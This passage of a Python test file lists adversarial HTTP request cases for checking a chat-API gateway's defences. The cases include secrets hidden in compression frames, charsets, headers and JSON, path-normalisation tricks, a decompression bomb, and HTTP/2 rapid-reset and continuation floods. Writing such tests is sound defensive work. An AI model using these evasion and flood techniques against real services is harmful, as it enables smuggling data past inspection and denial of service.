    Attempt("gzip-text-in-header", with_body(lambda mark: b"\x1f\x8b\x08\x08\0\0\0\0\0\xff" + hidden(mark) + b"\0" + gzip.compress(chat(mark))[10:], "Content-Encoding: gzip"), "wire.coding.hidden"),
    Attempt("gzip-cut-short", with_body(lambda mark: gzip.compress(chat(mark))[:-9], "Content-Encoding: gzip"), "wire.coding.truncated"),
    Attempt("zstd-two-frames", with_body(lambda mark: zstandard.compress(chat(mark)) + zstandard.compress(hidden(mark)), "Content-Encoding: zstd"), "wire.coding.trailing"),
    Attempt("zstd-skippable-frame", with_body(lambda mark: b"\x50\x2a\x4d\x18" + struct.pack("<I", len(hidden(mark))) + hidden(mark) + zstandard.compress(chat(mark)), "Content-Encoding: zstd"), "wire.coding.hidden"),
    Attempt("bomb", with_body(bomb, "Content-Encoding: gzip"), "wire.coding.bomb"),
    Attempt("coding-that-lies", with_body(chat, "Content-Encoding: gzip"), "wire.coding.lies"),
    Attempt("coding-unsaid", with_body(zipped), "wire.coding.lies"),
    Attempt("coding-identity-but-gzip", with_body(zipped, "Content-Encoding: identity"), "wire.coding.lies"),
    Attempt("coding-rot13", with_body(lambda mark: codecs.encode(hidden(mark).decode(), "rot13").encode(), "Content-Encoding: rot13"), "wire.coding.unknown"),
    Attempt("coding-bz2", with_body(lambda mark: codecs.encode(hidden(mark), "bz2"), "Content-Encoding: bz2"), "wire.coding.unknown"),
    Attempt("coding-undefined", with_body(hidden, "Content-Encoding: undefined"), "wire.coding.unknown"),
    Attempt("charset-utf-16", with_body(lambda mark: hidden(mark).decode().encode("utf-16"), "Content-Type: application/json; charset=utf-16"), "wire.charset.other"),
    Attempt("charset-utf-16-unsaid", with_body(lambda mark: hidden(mark).decode().encode("utf-16")), "wire.json.syntax"),
    Attempt("charset-utf-7", with_body(lambda mark: hidden(mark).decode().encode("utf-7"), "Content-Type: application/json; charset=utf-7"), "wire.charset.other"),
    Attempt("charset-rot13", with_body(lambda mark: codecs.encode(hidden(mark).decode(), "rot13").encode(), "Content-Type: application/json; charset=rot13"), "wire.charset.other"),
    Attempt("charset-ebcdic", with_body(lambda mark: hidden(mark).decode().encode("cp037"), "Content-Type: application/json; charset=cp037"), "wire.charset.other"),
    Attempt("charset-unknown", with_body(hidden, "Content-Type: application/json; charset=nonsense"), "wire.charset.other"),
    Attempt("charset-twice", with_body(hidden, "Content-Type: application/json; charset=utf-8; charset=utf-7"), "wire.content_type.duplicate"),
]  # fmt: skip

PATHS = [
    Attempt("path-encoded-slash", inside(lambda mark: call(mark, path="/v1%2fchat/completions")), "access.unknown_endpoint"),
    Attempt("path-encoded-letter", inside(lambda mark: call(mark, path="/v1/ch%61t/completions")), "access.unknown_endpoint"),
    Attempt("path-dot-segments", inside(lambda mark: call(mark, path="/v1/chat/completions/../../files")), "access.unknown_endpoint"),
    Attempt("path-dot-segments-back", inside(lambda mark: call(mark, path="/v1/threads/../chat/completions")), "access.unknown_endpoint"),
    Attempt("path-double-slash", inside(lambda mark: call(mark, path="//v1/chat/completions")), "access.unknown_endpoint"),
    Attempt("path-trailing-slash", inside(lambda mark: call(mark, path=CHAT + "/")), "access.unknown_endpoint"),
    Attempt("path-upper-case", inside(lambda mark: call(mark, path="/V1/chat/completions")), "access.unknown_endpoint"),
    Attempt("path-parameters", inside(lambda mark: call(mark, path=f"/v1/chat;{mark}/completions")), "access.unknown_endpoint"),
    Attempt("path-backslash", inside(lambda mark: call(mark, path="/v1\\chat\\completions")), "access.unknown_endpoint"),
    Attempt("path-fragment", inside(lambda mark: call(mark, path=f"{CHAT}#{mark}")), "access.unknown_endpoint"),
    Attempt("path-asterisk", inside(lambda mark: call(mark, path="*", method="OPTIONS")), "access.unknown_endpoint"),
    Attempt("path-query", inside(lambda mark: call(mark, path=f"{CHAT}?note={mark}")), "access.unknown_endpoint"),
    Attempt("unknown-endpoint", inside(lambda mark: call(mark, path="/v1/threads")), "access.unknown_endpoint"),
    Attempt("unknown-method", inside(lambda mark: call(mark, method="PUT")), "access.unknown_endpoint"),
    Attempt("method-get-with-body", inside(lambda mark: call(mark, path="/v1/models", method="GET")), "access.attachment"),
    Attempt("connection-names-a-header", with_lines("Connection: keep-alive, Authorization"), "", disarmed=b", authorization"),
    Attempt("method-override", with_lines("X-HTTP-Method-Override: DELETE"), "", disarmed=b"x-http-method-override"),
    Attempt("method-override-short", with_lines("X-Method-Override: DELETE"), "", disarmed=b"x-method-override"),
    Attempt("header-that-hides", with_lines(f"X-Note: {LEAK}"), "secrets.found"),
    Attempt("header-name-that-hides", with_lines(f"X-{LEAK}: 1"), "secrets.found"),
    Attempt("cookie-that-hides", with_lines(f"Cookie: session=1; note={LEAK}"), "secrets.found"),
    Attempt("accept-that-hides", with_lines(f"Accept: application/json, x/{LEAK}"), "secrets.found"),
    Attempt("accept-language-that-hides", with_lines(f"Accept-Language: en, {LEAK}"), "secrets.found"),
    Attempt("cache-control-that-hides", with_lines(f"Cache-Control: no-cache, {LEAK}"), "secrets.found"),
    Attempt("pragma-that-hides", with_lines(f"Pragma: {LEAK}"), "secrets.found"),
    Attempt("content-type-parameter-that-hides", with_body(chat, f'Content-Type: application/json; note="{LEAK}"'), "secrets.found"),
    Attempt("credential-that-is-prose", inside(lambda mark: head(START, HOST, f"Authorization: Bearer {LEAK} and more", "Content-Type: application/json", f"Content-Length: {len(chat(mark))}") + chat(mark)), "secrets.found"),
    Attempt("user-agent-that-hides", with_lines(f"User-Agent: {LEAK}"), "secrets.found"),
    Attempt("model-in-path-that-hides", inside(lambda mark: head(f"GET /v1/models/{LEAK} HTTP/1.1", HOST, "Authorization: Bearer sk-test")), "secrets.found"),
]  # fmt: skip

BODIES = [
    Attempt("json-duplicate-keys", json_of('{"model":"m","messages":[{"role":"user","content":"%T","content":"hi"}]}'), "wire.json.duplicate_key"),
    Attempt("json-duplicate-keys-escaped", json_of('{"model":"m","messages":[{"role":"user","content":"hi","conten\\u0074":"%T"}]}'), "wire.json.duplicate_key"),
    Attempt("json-duplicate-messages", json_of('{"model":"m","messages":[{"role":"user","content":"%T"}],"messages":[]}'), "wire.json.duplicate_key"),
    Attempt("json-keys-differing-in-case", json_of('{"model":"m","messages":[{"role":"user","content":"hi"}],"Messages":[{"role":"user","content":"%T"}]}'), "wire.json.duplicate_key"),
    Attempt("json-invalid-utf-8", with_body(lambda mark: hidden(mark).replace(b" LEAK", b"\xff LEAK")), "wire.json.utf8"),
    Attempt("json-overlong-utf-8", with_body(lambda mark: hidden(mark).replace(b"LEAK", b"\xc1\x8cEAK")), "wire.json.utf8"),
    Attempt("json-nan", json_of('{"model":"m","temperature":NaN,"messages":[{"role":"user","content":"%T"}]}'), "wire.json.syntax"),
    Attempt("json-infinity", json_of('{"model":"m","temperature":-Infinity,"messages":[{"role":"user","content":"%T"}]}'), "wire.json.number"),
    Attempt("json-nesting", with_body(lambda mark: nested(200)), "wire.json.depth"),
    Attempt("json-nesting-deep", with_body(lambda mark: nested(100_000)), "wire.json.depth"),
    Attempt("json-huge-integer", json_of('{"model":"m","seed":' + "9" * 5000 + ',"messages":[{"role":"user","content":"%T"}]}'), "wire.json.number"),
    Attempt("json-two-documents", json_of('{"model":"m","messages":[]} {"messages":[{"role":"user","content":"%T"}]}'), "wire.json.trailing_data"),
    Attempt("json-trailing-garbage", with_body(lambda mark: chat(mark) + b"\0" + mark.encode()), "wire.json.trailing_data"),
    Attempt("json-comment", json_of('{"model":"m",/* %T */"messages":[{"role":"user","content":"hi"}]}'), "wire.json.syntax"),
    Attempt("json-single-quotes", json_of("{'model':'m','messages':[{'role':'user','content':'%T'}]}"), "wire.json.syntax"),
    Attempt("json-xssi-prefix", json_of(')]}\'\n{"model":"m","messages":[{"role":"user","content":"%T"}]}'), "wire.json.syntax"),
    Attempt("json-array", json_of('[{"model":"m","messages":[{"role":"user","content":"%T"}]}]'), "wire.json.not_object"),
    Attempt("json-string", json_of('"%T"'), "wire.json.not_object"),
    Attempt("json-escaped-text", json_of('{"model":"m","messages":[{"role":"user","content":"\\u004cE\\u0041K"}]}'), "secrets.found"),
    Attempt("json-text-in-unknown-key", json_of('{"model":"m","messages":[],"vendor_extension":{"x":["%T"]}}'), "secrets.found"),
    Attempt("json-text-in-a-key", json_of('{"model":"m","messages":[],"vendor_extension":{"%T":1}}'), "secrets.found"),
    Attempt("json-text-in-role", json_of('{"model":"m","messages":[{"role":"%T","content":"hi"}]}'), "secrets.found"),
    Attempt("json-text-in-model", json_of('{"model":"%T","messages":[{"role":"user","content":"hi"}]}'), "secrets.found"),
    Attempt("content-type-wrong", with_body(hidden, "Content-Type: text/plain"), "wire.content_type.other"),
    Attempt("content-type-form", with_body(lambda mark: b"messages=" + mark.encode() + b"+LEAK", "Content-Type: application/x-www-form-urlencoded"), "wire.content_type.other"),
    Attempt("content-type-multipart", with_body(lambda mark: b"--b\r\nContent-Disposition: form-data; name=a\r\n\r\n" + hidden(mark) + b"\r\n--b--\r\n", "Content-Type: multipart/form-data; boundary=b"), "wire.content_type.other"),
    Attempt("content-type-twice", with_body(hidden, "Content-Type: application/json", "Content-Type: text/plain"), "framing_repeated_content_type"),
    Attempt("content-type-missing", inside(lambda mark: head(START, HOST, f"Content-Length: {len(hidden(mark))}") + hidden(mark)), "wire.content_type.other"),
    Attempt("body-empty", with_body(lambda mark: b""), "wire.json.truncated"),
    Attempt("body-too-large", with_body(lambda mark: chat(mark, "x" * 300_000)), "transport.body_too_large"),
]  # fmt: skip

PRESSURE = [
    Attempt("slow-connect", slow_head("connect"), "too_slow"),
    Attempt("slow-hello", slow_head("hello"), "too_slow"),
    Attempt("slow-request", slow_head("tls"), "too_slow"),
    Attempt("slow-h2", h2_slow, "too_slow"),
    Attempt("h2-streams-without-end", h2_flood("streams"), "framing_http2"),
    Attempt("h2-rapid-reset", h2_flood("resets"), "not_whole"),
    Attempt("h2-resets-without-end", h2_flood("resets", 400, 20.0), "framing_http2_flood"),
    Attempt("h2-pings-without-end", h2_flood("pings", 12_000, 20.0), "framing_http2_flood"),
    Attempt("pipelined-without-end", pipelined_flood, "framing_pipelined", beside=True),
    Attempt("h2-continuation-flood", h2_flood("headers"), "framing_http2"),
    Attempt("refused-head-without-end", never_finished, "transport.host_mismatch"),
    Attempt("too-many-connections", many_connections, "too_many_connections"),
]

GROUPS = {
    "First bytes": FIRST_BYTES,
    "Names": NAMES,
    "Fronting": FRONTING,
    "Framing": FRAMING,
    "Codings and charsets": CODINGS,
    "Paths, methods, headers": PATHS,
    "Bodies": BODIES,
    "Pressure": PRESSURE,
}

__all__ = ["GROUPS", "Attempt"]
